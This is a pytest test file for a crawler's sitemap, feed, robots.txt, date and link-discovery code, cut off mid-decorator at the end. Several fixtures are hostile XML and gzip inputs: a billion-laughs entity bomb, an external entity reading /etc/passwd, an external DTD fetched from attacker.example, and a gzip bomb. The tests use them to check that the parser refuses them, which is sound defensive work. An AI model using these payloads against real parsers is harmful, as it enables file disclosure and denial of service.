"""Tests for crawler.discovery: robots, sitemaps, feeds, HTML links and URL heuristics.

All fixtures are small invented documents about invented sites (*.example).
"""

from __future__ import annotations

import contextlib
import gzip
import time
import tracemalloc
import zlib
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crawler import discovery
from crawler.discovery import (
    DiscoveryError,
    FeedEntry,
    Link,
    Sitemap,
    SitemapEntry,
    feed_links_from_html,
    is_pagination_link,
    is_sitemap_or_feed,
    looks_like_article_url,
    page_links,
    parse_date,
    parse_feed,
    parse_sitemap,
    sitemap_urls_from_robots,
)

BASE = "https://news.example/"
NOW = datetime(2024, 6, 1, tzinfo=UTC)


def _utc(
    year: int, month: int, day: int, hour: int = 0, minute: int = 0, second: int = 0, us: int = 0
) -> datetime:
    return datetime(year, month, day, hour, minute, second, us, tzinfo=UTC)


# --------------------------------------------------------------------------- fixtures

NEWS_SITEMAP = b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
        xmlns:n="http://www.google.com/schemas/sitemap-news/0.9">
  <url>
    <loc>https://news.example/2024/05/17/harbour-bridge-reopens-after-repairs</loc>
    <lastmod>2024-05-17T10:30:00+02:00</lastmod>
    <n:news>
      <n:publication><n:name>Example News</n:name><n:language>en</n:language></n:publication>
      <n:publication_date>2024-05-17T08:00:00Z</n:publication_date>
      <n:title>Harbour bridge reopens after repairs</n:title>
    </n:news>
  </url>
  <url>
    <loc>
      /2024/05/16/council-votes-on-new-bus-lanes
    </loc>
    <lastmod>2024-05-16</lastmod>
  </url>
  <url><loc>mailto:desk@news.example</loc></url>
  <url><loc>https://news.example/2024/05/17/harbour-bridge-reopens-after-repairs</loc></url>
  <url><lastmod>2024-05-15</lastmod></url>
  <url><loc>https://news.example/garbage-date</loc><lastmod>yesterday-ish</lastmod></url>
</urlset>
"""

SITEMAP_INDEX = b"""<?xml version="1.0" encoding="UTF-8"?>
<sm:sitemapindex xmlns:sm="http://www.sitemaps.org/schemas/sitemap/0.9">
  <sm:sitemap>
    <sm:loc>https://news.example/sitemap-2024-05.xml.gz</sm:loc>
    <sm:lastmod>2024-05-31T23:59:59Z</sm:lastmod>
  </sm:sitemap>
  <sm:sitemap><sm:loc>sitemap-news.xml</sm:loc></sm:sitemap>
</sm:sitemapindex>
"""

RSS_WITH_SOURCE = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:atom="http://www.w3.org/2005/Atom">
  <channel>
    <title>Copy Daily</title>
    <link>https://copy.example/</link>
    <item>
      <title>Harbour bridge reopens &amp; traffic returns</title>
      <link>https://copy.example/harbour-bridge-reopens-traffic-returns</link>
      <pubDate>Fri, 17 May 2024 10:15:00 +0200</pubDate>
      <source url="https://news.example/rss.xml">Example News</source>
    </item>
    <item>
      <title>Guid only</title>
      <guid>https://copy.example/guid-only-permalink-story</guid>
      <dc:date>2024-05-16T09:00:00Z</dc:date>
    </item>
    <item>
      <title>Not a permalink</title>
      <guid isPermaLink="false">https://copy.example/not-a-permalink</guid>
    </item>
    <item>
      <title><![CDATA[Relative <b>link</b>]]></title>
      <link>/relative-link-story-here</link>
      <pubDate>not a date</pubDate>
    </item>
    <item>
      <atom:link rel="alternate" href="https://copy.example/atom-link-in-rss-item"/>
    </item>
  </channel>
</rss>
"""

ATOM_FEED = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://blog.example/posts/">
  <title>Example Blog</title>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <entry>
    <title type="html">Tides &lt;em&gt;rise&lt;/em&gt; again</title>
    <link rel="edit" href="https://blog.example/api/1"/>
    <link rel="alternate" type="application/pdf" href="tides.pdf"/>
    <link rel="alternate" type="text/html" href="tides-rise-again-this-spring"/>
    <id>tag:blog.example,2024:1</id>
    <published>2024-05-17T08:00:00Z</published>
    <updated>2024-05-18T09:30:00+01:00</updated>
    <source>
      <id>https://news.example/</id>
      <title>Example News</title>
      <link rel="alternate" href="https://news.example/"/>
    </source>
  </entry>
  <entry>
    <title>No rel and an id fallback below</title>
    <link href="https://blog.example/no-rel-link-entry"/>
    <updated>2024-05-10</updated>
  </entry>
  <entry>
    <title>Id only</title>
    <id>https://blog.example/id-only-entry-here</id>
  </entry>
  <entry>
    <title>Nothing usable</title>
    <id>tag:blog.example,2024:4</id>
  </entry>
</feed>
"""

RDF_FEED = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://old.example/">
    <title>Old School</title>
    <link>https://old.example/</link>
  </channel>
  <item rdf:about="https://old.example/stories/first-rdf-story-here">
    <title>First RDF story</title>
    <link>https://old.example/stories/first-rdf-story-here</link>
    <dc:date>2024-05-01T12:00:00+00:00</dc:date>
  </item>
  <item rdf:about="https://old.example/stories/about-only-rdf-story">
    <title>About only</title>
  </item>
</rdf:RDF>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
  <url><loc>https://news.example/&g;</loc></url>
</urlset>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
  <url><loc>https://news.example/&x;</loc></url>
</urlset>
"""

EXTERNAL_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><item><link>https://copy.example/a-b-c</link></item></channel></rss>
"""


# --------------------------------------------------------------------------- robots.txt


def test_sitemap_urls_from_robots() -> None:
    robots = (
        "User-agent: *\n"
        "Disallow: /admin\n"
        "Sitemap: https://news.example/sitemap.xml\n"
        "SITEMAP:/news-sitemap.xml   # relative, oddly cased\n"
        "  sitemap :  https://news.example/sitemap.xml\n"
        "# Sitemap: https://news.example/commented-out.xml\n"
        "Sitemap: ftp://news.example/not-http.xml\r\n"
        "Sitemap:\n"
        "Site-map: https://news.example/typo.xml\n"
        "sitemap: https://cdn.example/other-host.xml\n"
    )
    expected = [
        "https://news.example/sitemap.xml",
        "https://news.example/news-sitemap.xml",
        "https://cdn.example/other-host.xml",
    ]
    assert sitemap_urls_from_robots(robots, BASE) == expected
    assert sitemap_urls_from_robots(("\ufeff" + robots).encode(), BASE) == expected


def test_sitemap_urls_from_robots_tolerates_bad_bytes() -> None:
    body = b"\xff\xfe garbage\nSitemap: https://news.example/s.xml\n\x00\x81"
    assert sitemap_urls_from_robots(body, BASE) == ["https://news.example/s.xml"]
    assert sitemap_urls_from_robots("", BASE) == []


# --------------------------------------------------------------------------- sitemaps


def test_parse_news_sitemap() -> None:
    sitemap = parse_sitemap(NEWS_SITEMAP, BASE)
    assert sitemap.kind == "urlset"
    assert sitemap.entries == [
        SitemapEntry(
            url="https://news.example/2024/05/17/harbour-bridge-reopens-after-repairs",
            lastmod=_utc(2024, 5, 17, 8, 30),
            news_title="Harbour bridge reopens after repairs",
            news_published_at=_utc(2024, 5, 17, 8, 0),
        ),
        SitemapEntry(
            url="https://news.example/2024/05/16/council-votes-on-new-bus-lanes",
            lastmod=_utc(2024, 5, 16),
        ),
        SitemapEntry(url="https://news.example/garbage-date"),
    ]


def test_parse_sitemap_index() -> None:
    sitemap = parse_sitemap(SITEMAP_INDEX, "https://news.example/sitemap.xml")
    assert sitemap == Sitemap(
        kind="index",
        entries=[
            SitemapEntry(
                url="https://news.example/sitemap-2024-05.xml.gz",
                lastmod=_utc(2024, 5, 31, 23, 59, 59),
            ),
            SitemapEntry(url="https://news.example/sitemap-news.xml"),
        ],
    )


def test_parse_sitemap_without_namespace_and_unbound_prefix() -> None:
    body = (
        b"<urlset><url><loc>https://news.example/x-y-z</loc>"
        b"<news:news><news:title>Unbound prefix</news:title></news:news></url></urlset>"
    )
    sitemap = parse_sitemap(body, BASE)
    assert [e.url for e in sitemap.entries] == ["https://news.example/x-y-z"]
    assert sitemap.entries[0].news_title == "Unbound prefix"


def test_parse_gzip_sitemap() -> None:
    sitemap = parse_sitemap(gzip.compress(NEWS_SITEMAP), BASE)
    assert sitemap == parse_sitemap(NEWS_SITEMAP, BASE)


def test_parse_multi_member_gzip_sitemap() -> None:
    half = len(SITEMAP_INDEX) // 2
    body = gzip.compress(SITEMAP_INDEX[:half]) + gzip.compress(SITEMAP_INDEX[half:])
    assert parse_sitemap(body, BASE) == parse_sitemap(SITEMAP_INDEX, BASE)


def test_parse_sitemap_max_entries() -> None:
    urls = "".join(f"<url><loc>https://news.example/story-{i}</loc></url>" for i in range(20))
    body = f"<urlset>{urls}</urlset>".encode()
    sitemap = parse_sitemap(body, BASE, max_entries=5)
    assert [e.url for e in sitemap.entries] == [f"https://news.example/story-{i}" for i in range(5)]
    assert parse_sitemap(body, BASE, max_entries=0).entries == []


def _gzip_of_zeros(size: int) -> bytes:
    """Compress ``size`` zero bytes without ever holding them in memory."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    block = b"\0" * (1 << 20)
    out = [comp.compress(b"<urlset>")]
    for _ in range(size // len(block)):
        out.append(comp.compress(block))
    out.append(comp.flush())
    return b"".join(out)


def test_gzip_bomb_is_refused_with_bounded_memory() -> None:
    bomb = _gzip_of_zeros(discovery.MAX_DECOMPRESSED_BYTES + (2 << 20))
    assert len(bomb) < 200_000  # small on the wire ...
    tracemalloc.start()
    try:
        with pytest.raises(DiscoveryError, match="more than"):
            parse_sitemap(bomb, BASE)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # ... and decompression stops at the cap instead of inflating everything.
    assert peak < discovery.MAX_DECOMPRESSED_BYTES * 1.3


def test_gzip_cap_is_configurable(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(discovery, "MAX_DECOMPRESSED_BYTES", 500)
    with pytest.raises(DiscoveryError, match="more than 500 bytes"):
        parse_sitemap(gzip.compress(NEWS_SITEMAP), BASE)
    with pytest.raises(DiscoveryError, match="exceeds"):
        parse_sitemap(NEWS_SITEMAP, BASE)  # the cap applies to plain bodies too


def test_corrupt_gzip_raises() -> None:
    body = gzip.compress(NEWS_SITEMAP)
    corrupt = body[:10] + bytes(b ^ 0xFF for b in body[10:40]) + body[40:]
    with pytest.raises(DiscoveryError):
        parse_sitemap(corrupt, BASE)


def test_truncated_gzip_salvages_complete_entries() -> None:
    body = gzip.compress(NEWS_SITEMAP)
    sitemap = parse_sitemap(body[: int(len(body) * 0.8)], BASE)
    assert sitemap.entries[0].url.endswith("harbour-bridge-reopens-after-repairs")


def test_billion_laughs_is_refused_quickly() -> None:
    start = time.monotonic()
    with pytest.raises(DiscoveryError, match="entit"):
        parse_sitemap(BILLION_LAUGHS, BASE)
    with pytest.raises(DiscoveryError, match="entit"):
        parse_feed(BILLION_LAUGHS, BASE)
    assert time.monotonic() - start < 2


def test_external_entity_is_not_read() -> None:
    with pytest.raises(DiscoveryError, match="entit") as info:
        parse_sitemap(EXTERNAL_ENTITY, BASE)
    assert "root:" not in str(info.value)
    with pytest.raises(DiscoveryError, match="entit"):
        parse_feed(EXTERNAL_PARAMETER_ENTITY, BASE)


def test_malformed_sitemap_is_salvaged() -> None:
    body = (
        b"<urlset><url><loc>https://news.example/first-good-one</loc></url>"
        b"<url><loc>https://news.example/second-good-one</loc></url><url><loc>https://"
    )
    sitemap = parse_sitemap(body, BASE)
    assert [e.url for e in sitemap.entries][:2] == [
        "https://news.example/first-good-one",
        "https://news.example/second-good-one",
    ]


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   \n",
        b"this is not xml at all",
        b"<urlset><url><loc>",
        b"<?xml version='1.0'?><urlset><url></urlset>",
        b"\x00\x01\x02\x03",
        b'<?xml version="1.0" encoding="no-such-codec"?><urlset/>',
    ],
)
def test_malformed_sitemap_raises(body: bytes) -> None:
    with pytest.raises(DiscoveryError, match=r"\S"):
        parse_sitemap(body, BASE)


def test_sitemap_with_wrong_root_raises() -> None:
    with pytest.raises(DiscoveryError, match="not a sitemap"):
        parse_sitemap(b"<html><body>Soft 404</body></html>", BASE)
    with pytest.raises(DiscoveryError, match="not a sitemap"):
        parse_sitemap(RSS_WITH_SOURCE, BASE)


def test_empty_but_valid_sitemap() -> None:
    assert parse_sitemap(b"<urlset/>", BASE) == Sitemap(kind="urlset", entries=[])


# --------------------------------------------------------------------------- feeds


def test_parse_rss_with_source() -> None:
    entries = parse_feed(RSS_WITH_SOURCE, "https://copy.example/feed/")
    assert entries == [
        FeedEntry(
            url="https://copy.example/harbour-bridge-reopens-traffic-returns",
            title="Harbour bridge reopens & traffic returns",
            published_at=_utc(2024, 5, 17, 8, 15),
            source_url="https://news.example/rss.xml",
            source_name="Example News",
        ),
        FeedEntry(
            url="https://copy.example/guid-only-permalink-story",
            title="Guid only",
            published_at=_utc(2024, 5, 16, 9),
        ),
        FeedEntry(
            url="https://copy.example/relative-link-story-here",
            title="Relative <b>link</b>",
            unreadable_dates=1,  # <pubDate>not a date</pubDate>
        ),
        FeedEntry(url="https://copy.example/atom-link-in-rss-item"),
    ]


def test_parse_atom() -> None:
    entries = parse_feed(ATOM_FEED, "https://blog.example/feed.atom")
    assert entries == [
        FeedEntry(
            url="https://blog.example/posts/tides-rise-again-this-spring",
            title="Tides rise again",
            published_at=_utc(2024, 5, 17, 8),
            updated_at=_utc(2024, 5, 18, 8, 30),
            source_url="https://news.example/",
            source_name="Example News",
        ),
        FeedEntry(
            url="https://blog.example/no-rel-link-entry",
            title="No rel and an id fallback below",
            updated_at=_utc(2024, 5, 10),
        ),
        FeedEntry(url="https://blog.example/id-only-entry-here", title="Id only"),
    ]


def test_parse_rdf() -> None:
    entries = parse_feed(RDF_FEED, "https://old.example/index.rdf")
    assert entries == [
        FeedEntry(
            url="https://old.example/stories/first-rdf-story-here",
            title="First RDF story",
            published_at=_utc(2024, 5, 1, 12),
        ),
        FeedEntry(url="https://old.example/stories/about-only-rdf-story", title="About only"),
    ]


def test_parse_feed_feedburner_origlink_wins() -> None:
    body = b"""<rss xmlns:feedburner="http://rssnamespace.org/feedburner/ext/1.0"><channel><item>
      <link>https://feeds.example/~r/copy/~3/abc/</link>
      <feedburner:origLink>https://copy.example/the-real-article-url</feedburner:origLink>
    </item></channel></rss>"""
    assert [e.url for e in parse_feed(body, BASE)] == ["https://copy.example/the-real-article-url"]


def test_parse_feed_gzip_dedup_and_cap() -> None:
    items = "".join(f"<item><link>https://copy.example/s{i % 3}</link></item>" for i in range(9))
    body = gzip.compress(f"<rss><channel>{items}</channel></rss>".encode())
    assert [e.url for e in parse_feed(body, BASE)] == [
        "https://copy.example/s0",
        "https://copy.example/s1",
        "https://copy.example/s2",
    ]
    assert len(parse_feed(body, BASE, max_entries=2)) == 2


def test_parse_feed_salvages_undefined_html_entity() -> None:
    body = (
        b"<rss><channel><item><title>Caf&eacute; opens</title>"
        b"<link>https://copy.example/cafe-opens-downtown</link></item></channel></rss>"
    )
    (entry,) = parse_feed(body, BASE)
    assert entry.url == "https://copy.example/cafe-opens-downtown"
    assert entry.title is not None and entry.title.startswith("Caf")


@pytest.mark.parametrize(
    "body",
    [
        b"<html><head><title>Not a feed</title></head></html>",
        NEWS_SITEMAP,
        b"<opml version='2.0'><body/></opml>",
    ],
)
def test_parse_feed_unknown_root_raises(body: bytes) -> None:
    with pytest.raises(DiscoveryError, match="not a feed"):
        parse_feed(body, BASE)


@pytest.mark.parametrize("body", [b"", b"<rss><channel><item>", b"{json: true}"])
def test_parse_feed_malformed_raises(body: bytes) -> None:
    with pytest.raises(DiscoveryError):
        parse_feed(body, BASE)


def test_parse_feed_empty_channel() -> None:
    assert parse_feed(b"<rss version='2.0'><channel><title>t</title></channel></rss>", BASE) == []


# --------------------------------------------------------------------------- sniffing


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (NEWS_SITEMAP, "sitemap"),
        (SITEMAP_INDEX, "sitemap"),
        (gzip.compress(SITEMAP_INDEX), "sitemap"),
        (RSS_WITH_SOURCE, "feed"),
        (ATOM_FEED, "feed"),
        (RDF_FEED, "feed"),
        (b"\xef\xbb\xbf<?xml version='1.0'?>\n<!-- hi -->\n<rss>", "feed"),
        (b"<!DOCTYPE html><html><body>x</body></html>", None),
        (b"", None),
        (b"plain text", None),
        (b"\x1f\x8b\x08 broken gzip", None),
        (b"{}", None),
    ],
)
def test_is_sitemap_or_feed(body: bytes, expected: str | None) -> None:
    assert is_sitemap_or_feed(body) == expected


def test_is_sitemap_or_feed_on_gzip_bomb_is_bounded() -> None:
    bomb = _gzip_of_zeros(8 << 20)
    assert is_sitemap_or_feed(bomb) == "sitemap"


# --------------------------------------------------------------------------- dates


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Fri, 17 May 2024 10:15:00 +0200", _utc(2024, 5, 17, 8, 15)),
        ("Fri, 17 May 2024 10:15:00 GMT", _utc(2024, 5, 17, 10, 15)),
        ("17 May 2024 10:15 EST", _utc(2024, 5, 17, 15, 15)),
        ("Fri, 17 May 2024 10:15:00 -0000", _utc(2024, 5, 17, 10, 15)),
        ("Fri, 17 May 24 10:15:00 +0000", _utc(2024, 5, 17, 10, 15)),
        ("2024-05-17", _utc(2024, 5, 17)),
        ("2024-05", _utc(2024, 5, 1)),
        ("2024", _utc(2024, 1, 1)),
        ("2024-05-17T10:15Z", _utc(2024, 5, 17, 10, 15)),
        ("2024-05-17T10:15:30Z", _utc(2024, 5, 17, 10, 15, 30)),
        ("2024-05-17t10:15:30z", _utc(2024, 5, 17, 10, 15, 30)),
        ("2024-05-17T10:15:30.250+02:00", _utc(2024, 5, 17, 8, 15, 30, 250000)),
        ("2024-05-17T10:15:30-0500", _utc(2024, 5, 17, 15, 15, 30)),
        ("2024-05-17 10:15:30", _utc(2024, 5, 17, 10, 15, 30)),
        ("2024-05-17 10:15:30 +02:00", _utc(2024, 5, 17, 8, 15, 30)),
        ("2024-05-17T10:15:30 UTC", _utc(2024, 5, 17, 10, 15, 30)),
        ("  2024-05-17T10:15:30Z \n", _utc(2024, 5, 17, 10, 15, 30)),
    ],
)
def test_parse_date(value: str, expected: datetime) -> None:
    parsed = parse_date(value, now=NOW)
    assert parsed == expected
    assert parsed is not None and parsed.tzinfo is UTC


@pytest.mark.parametrize(
    "value",
    [
        None,
        "",
        "   ",
        "yesterday",
        "not a date",
        "2024-13-01",
        "2024-02-30",
        "2024-05-17T25:00:00Z",
        "Fri, 32 May 2024 10:15:00 +0200",
        "1970-01-01T00:00:00Z",  # epoch-zero placeholder
        "0001-01-01",
        "1989-12-31T23:59:59Z",
        "2024-06-04T00:00:00Z",  # three days after NOW
        "9999-12-31T23:59:59-14:00",  # would overflow when converted
        "0001-01-01T00:00:00+14:00",
        "2024-05-17T10:15:30+99:00",
        "x" * 500,
        "\x00\ud800",
    ],
)
def test_parse_date_garbage(value: str | None) -> None:
    assert parse_date(value, now=NOW) is None


def test_parse_date_future_slack() -> None:
    assert parse_date("2024-06-02T23:00:00Z", now=NOW) == _utc(2024, 6, 2, 23)
    # Without ``now`` the real clock is used.
    soon = datetime.now(UTC) + timedelta(hours=1)
    assert parse_date(soon.isoformat()) is not None
    later = datetime.now(UTC) + timedelta(days=3)
    assert parse_date(later.isoformat()) is None
    # A naive ``now`` is taken as UTC rather than failing the comparison.
    assert parse_date("2024-05-17", now=NOW.replace(tzinfo=None)) == _utc(2024, 5, 17)


def test_parse_date_non_string() -> None:
    assert parse_date(12345) is None  # type: ignore[arg-type]


# --------------------------------------------------------------------------- HTML

PAGE = """<!DOCTYPE html>
<html><head>
  <title>Example News</title>
  <link rel="stylesheet" href="/style.css">
  <link rel="alternate" type="application/rss+xml" title="RSS" href="/rss.xml">
  <link rel="Alternate" type="application/atom+xml; charset=utf-8" href="https://news.example/atom.xml">
  <link rel="alternate" type="application/feed+xml" href="/feed.json+xml">
  <link rel="alternate" type="application/rdf+xml" href="/index.rdf">
  <link rel="alternate" type="application/rss+xml" href="/rss.xml">
  <link rel="alternate" hreflang="fr" href="/fr/">
  <link rel="alternate" type="application/json" href="/feed.json">
  <link rel="alternate" type="application/rss+xml" href="javascript:void(0)">
  <link rel="next" href="/page/2/">
</head><body>
  <a href="/2024/05/17/harbour-bridge-reopens?utm_source=home#comments">
     Harbour   bridge
     reopens</a>
  <a href="/2024/05/17/harbour-bridge-reopens">Duplicate of the first</a>
  <a href="mailto:desk@news.example">Mail us</a>
  <a href="javascript:void(0)">Menu</a>
  <a href="tel:+100">Call</a>
  <a href="#top">Top</a>
  <a>No href</a>
  <a href="  https://Other.Example:443/x  " rel="nofollow noopener">Other</a>
  <a href="/page/2/">2</a>
  <a href="/icon-only" aria-label="Search"><svg></svg></a>
  <a href="/img-only"><img src="/a.png" alt="Photo story"></a>
  <p>Broken <b>markup <a href="relative-story">relative</a>
</body></html>
"""


def test_feed_links_from_html() -> None:
    assert feed_links_from_html(PAGE, "https://news.example/section/") == [
        "https://news.example/rss.xml",
        "https://news.example/atom.xml",
        "https://news.example/feed.json+xml",
        "https://news.example/index.rdf",
    ]


def test_feed_links_honour_base_element() -> None:
    html = (
        '<html><head><base href="https://static.example/blog/">'
        '<link rel="alternate" type="application/rss+xml" href="feed.xml"></head></html>'
    )
    assert feed_links_from_html(html, BASE) == ["https://static.example/blog/feed.xml"]


@pytest.mark.parametrize("html", ["", "   ", "<<<>>>", "not html", "\x00"])
def test_html_helpers_tolerate_junk(html: str) -> None:
    assert feed_links_from_html(html, BASE) == []
    assert page_links(html, BASE) == []


def test_html_with_xml_declaration_and_meta_charset() -> None:
    html = (
        '<?xml version="1.0" encoding="iso-8859-1"?>'
        '<html><head><meta charset="iso-8859-1"></head>'
        '<body><a href="/caf\u00e9">Caf\u00e9 cr\u00e8me</a></body></html>'
    )
    assert page_links(html, BASE) == [Link("https://news.example/caf%C3%A9", "Café crème")]


def test_page_links() -> None:
    links = page_links(PAGE, "https://news.example/section/")
    assert links == [
        Link("https://news.example/page/2/", "", frozenset({"next"})),
        Link("https://news.example/2024/05/17/harbour-bridge-reopens", "Harbour bridge reopens"),
        Link("https://other.example/x", "Other", frozenset({"nofollow", "noopener"})),
        Link("https://news.example/icon-only", "Search"),
        Link("https://news.example/img-only", "Photo story"),
        Link("https://news.example/section/relative-story", "relative"),
    ]


# --------------------------------------------------------------------------- heuristics


@pytest.mark.parametrize(
    "url",
    [
        "https://news.example/2024/05/17/harbour-bridge-reopens",
        "https://news.example/2024/05/17/bridge/",
        "https://news.example/2024/5/bridge",
        "https://news.example/world/2024/05/17/12345",
        "https://news.example/news/20240517/bridge",
        "https://news.example/2024-05-17-bridge-reopens",
        "https://news.example/harbour-bridge-reopens",
        "https://news.example/city/harbour-bridge-reopens/",
        "https://news.example/harbour-bridge-reopens.html",
        "https://news.example/harbour-bridge-reopens.htm",
        "https://news.example/harbour-bridge-reopens.php",
        "https://news.example/top-10-bridges",
        "https://news.example/news/world-europe-68123456",
        "https://news.example/article/123456-bridge-reopens",
        "https://news.example/news/123456/bridge-reopens",
        "https://news.example/news/bridge-reopens/123456",
        "https://news.example/%D0%BC%D0%BE%D1%81%D1%82-%D1%81%D0%BD%D0%BE%D0%B2%D0%B0-%D0%BE%D1%82%D0%BA%D1%80%D1%8B%D1%82",
        "https://news.example/harbour-bridge-reopens#main",
    ],
)
def test_looks_like_article_url_positive(url: str) -> None:
    assert looks_like_article_url(url)


@pytest.mark.parametrize(
    "url",
    [
        "https://news.example/",
        "https://news.example",
        "https://news.example/page/2",
        "https://news.example/page/2/",
        "https://news.example/news/page/3/",
        "https://news.example/2024/05/17/page/2",
        "https://news.example/harbour-bridge-news-archive?page=2",
        "https://news.example/harbour-bridge-news-archive?paged=3",
        "https://news.example/tag/harbour-bridge-news",
        "https://news.example/category/local-city-news",
        "https://news.example/author/jane-q-reporter",
        "https://news.example/topics/harbour-bridge-works",
        "https://news.example/search?q=bridge-news-today",
        "https://news.example/search/harbour-bridge-news",
        "https://news.example/?s=harbour-bridge-news",
        "https://news.example/feed",
        "https://news.example/2024/05/17/harbour-bridge-reopens/feed/",
        "https://news.example/wp-admin/post-new-article.php",
        "https://news.example/wp-login.php",
        "https://news.example/login",
        "https://news.example/about",
        "https://news.example/about-us",
        "https://news.example/contact",
        "https://news.example/privacy",
        "https://news.example/privacy-policy",
        "https://news.example/terms",
        "https://news.example/terms-and-conditions",
        "https://news.example/uploads/harbour-bridge-at-night.jpg",
        "https://news.example/img/harbour-bridge-at-night.PNG",
        "https://news.example/assets/site-main-bundle.css",
        "https://news.example/assets/site-main-bundle.js",
        "https://news.example/docs/annual-report-2023-final.pdf",
        "https://news.example/sitemap-news-2024.xml",
        "https://news.example/downloads/all-the-photos.zip",
        "https://news.example/2024/05/17/harbour-bridge-reopens#comments",
        "https://news.example/2024/05/17/harbour-bridge-reopens#respond",
        "https://news.example/2024/05/17/harbour-bridge-reopens#comment-123",
        "https://news.example/2024/05/17/harbour-bridge-reopens?replytocom=5",
        "https://news.example/2024/05/17/",
        "https://news.example/2024/05/",
        "https://news.example/2024/",
        "https://news.example/world",
        "https://news.example/world/europe",
        "https://news.example/news/123456",
        "mailto:desk@news.example",
        "ftp://news.example/2024/05/17/harbour-bridge-reopens",
        "/2024/05/17/harbour-bridge-reopens",
        "",
    ],
)
def test_looks_like_article_url_negative(url: str) -> None:
    assert not looks_like_article_url(url)


@pytest.mark.parametrize(
    "link",
    [
        Link("https://news.example/x", "", frozenset({"next"})),
        Link("https://news.example/x", "", frozenset({"prev"})),
        Link("https://news.example/page/2/", ""),
        Link("https://news.example/news/page/12", "whatever"),
        Link("https://news.example/news?page=2", ""),
        Link("https://news.example/?paged=3", ""),
        Link("https://news.example/x", "Next"),
        Link("https://news.example/x", "  next   page "),
        Link("https://news.example/x", "Next \u00bb"),
        Link("https://news.example/x", "Older posts"),
        Link("https://news.example/x", "\u00ab Older Entries"),
        Link("https://news.example/x", "\u00bb"),
        Link("https://news.example/x", "\u203a"),
        Link("https://news.example/x", ">>"),
        Link("https://news.example/x", "2"),
        Link("https://news.example/x", "Page 3"),
        Link("https://news.example/x", "Previous"),
        Link("https://news.example/x", "Suivant"),
    ],
)
def test_is_pagination_link_positive(link: Link) -> None:
    assert is_pagination_link(link)


@pytest.mark.parametrize(
    "link",
    [
        Link("https://news.example/2024/05/17/harbour-bridge-reopens", "Harbour bridge reopens"),
        Link("https://news.example/x", ""),
        Link("https://news.example/x", "Next generation bridges are here"),
        Link("https://news.example/x", "Read more"),
        Link("https://news.example/x", "\u2026"),
        Link("https://news.example/x", "|"),
        Link("https://news.example/x", "2024 in review 12345"),
        Link("https://news.example/x", "12345"),
        Link("https://news.example/x?page=last", ""),
        Link("https://news.example/x", "", frozenset({"nofollow"})),
        Link("https://news.example/pages/2", ""),
    ],
)
def test_is_pagination_link_negative(link: Link) -> None:
    assert not is_pagination_link(link)


def test_pagination_links_found_on_page() -> None:
    found = [link.url for link in page_links(PAGE, BASE) if is_pagination_link(link)]
    assert found == ["https://news.example/page/2/"]


def test_dataclasses_are_frozen() -> None:
    link = Link("https://news.example/")
    with pytest.raises(AttributeError):
        link.url = "https://other.example/"  # type: ignore[misc]
    assert not hasattr(link, "__dict__")  # slots


# --------------------------------------------------------------------------- properties

_FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])

_xmlish = st.one_of(
    st.binary(max_size=300),
    st.lists(
        st.sampled_from(
            [
                b"<?xml version='1.0'?>",
                b"<urlset>",
                b"</urlset>",
                b"<sitemapindex>",
                b"<sitemap>",
                b"<rss>",
                b"<channel>",
                b"<item>",
                b"</item>",
                b"<feed xmlns='http://www.w3.org/2005/Atom'>",
                b"<entry>",
                b"<url>",
                b"<loc>",
                b"</loc>",
                b"<link href='/x'>",
                b"<link>",
                b"</link>",
                b"https://news.example/a",
                b"javascript:x",
                b"<lastmod>",
                b"2024-05-17",
                b"&amp;",
                b"&nbsp;",
                b"<!DOCTYPE x [<!ENTITY e 'v'>]>",
                b"<![CDATA[",
                b"]]>",
                b"\x1f\x8b",
                b"\xff",
            ]
        ),
        max_size=25,
    ).map(b"".join),
)


@_FUZZ
@given(_xmlish)
def test_parsers_return_or_raise_discovery_error(body: bytes) -> None:
    for parse in (parse_sitemap, parse_feed):
        try:
            result = parse(body, BASE)
        except DiscoveryError:
            continue
        assert result is not None
    assert is_sitemap_or_feed(body) in (None, "sitemap", "feed")


@_FUZZ
@given(_xmlish)
